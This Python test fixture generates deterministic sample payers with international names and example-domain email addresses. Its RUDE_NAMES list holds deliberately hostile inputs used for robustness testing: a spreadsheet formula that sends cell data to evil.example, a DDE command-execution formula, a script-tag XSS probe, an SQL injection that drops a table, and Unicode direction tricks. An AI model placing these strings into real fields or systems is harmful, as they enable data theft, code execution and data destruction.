"""Sample payers: person number 17 is always the same."""

from typing import NamedTuple

_WESTERN = (
    "Anke Björn Carla François Gregor Hanna Inés Jörg Lutz Marta Niamh Rosa Søren Tilda Uwe Vera",
    "Albrecht Brandt Carvalho Eriksen Fischer García Hansen Jansen Lorenz Müller O'Brien Petersen "
    "Quandt Richter Schröder Thomsen Vogel Zimmermann",
)
_EASTERN = (
    "Agnieszka Ďuro Elżbieta Kasia Łukasz Ondřej Pavel Zofia Žofie",
    "Czerny Dąbrowski Dvořák Horváth Kowalski Nowak Novák Šimek Wójcik Żak",
)
_TURKISH = (
    "Ayşe Çağlar Fatma Gülşen İbrahim Işıl Ömer Şule Yusuf",
    "Aydın Çelik Doğan Güneş İnönü Öztürk Şahin Yıldız",
)
_GREEK = (
    "Αλέξανδρος Γιώργος Δήμητρα Ελένη Θανάσης Ιωάννα Νίκος Σοφία",
    "Αγγελόπουλος Γεωργίου Δημητρίου Ιωάννου Κωνσταντίνου Παπαδόπουλος",
)
_CYRILLIC = (
    "Алёна Борис Галина Дмитро Їванна Надія Олександр Юлія",
    "Бондаренко Іваненко Коваленко Мельник Соколов Шевченко",
)
_PEOPLES = [
    tuple(tuple(names.split()) for names in names_of)
    for names_of, share in (
        (_WESTERN, 10),
        (_EASTERN, 4),
        (_TURKISH, 2),
        (_GREEK, 2),
        (_CYRILLIC, 2),
    )
    for _ in range(share)
]

RUDE_NAMES = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "<script>alert('paid')</script>",
    "محمد عبد الله",
    "\u202eevil\u202c Ltd",
    "🍐 Perry & Sons 👩‍🌾",
    ("Hubert Blaine Wolfeschlegelsteinhausenbergerdorff " * 7)[:255],
    "Zoë\u200b Zero\u200bwidth",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Robert'); DROP TABLE payments;--",
)
"""Names that could break a screen, a spreadsheet or an email."""

_RUDE_EVERY = 211
_DOMAINS = ("example.org", "example.com", "example.net")


class Person(NamedTuple):
    """A payer."""

    name: str
    email: str


def person(number: int) -> Person:
    """Return person ``number``. Two people may share a name, but never an address."""
    firsts, lasts = _PEOPLES[number % len(_PEOPLES)]
    name = f"{firsts[number * 7 % len(firsts)]} {lasts[number * 31 // 7 % len(lasts)]}"
    if number % _RUDE_EVERY == _RUDE_EVERY // 5:
        name = RUDE_NAMES[number // _RUDE_EVERY % len(RUDE_NAMES)]
    return Person(name, f"{_word(number)}.{number}@{_DOMAINS[number % len(_DOMAINS)]}")


def _word(number: int) -> str:
    """Return pronounceable text, so that addresses begin differently."""
    syllables = ("ba", "de", "fi", "go", "ku", "la", "me", "ni", "po", "ru", "sa", "te", "vi")
    first, second = divmod(number * 97, len(syllables))
    return syllables[first % len(syllables)] + syllables[second] + syllables[number % 11]
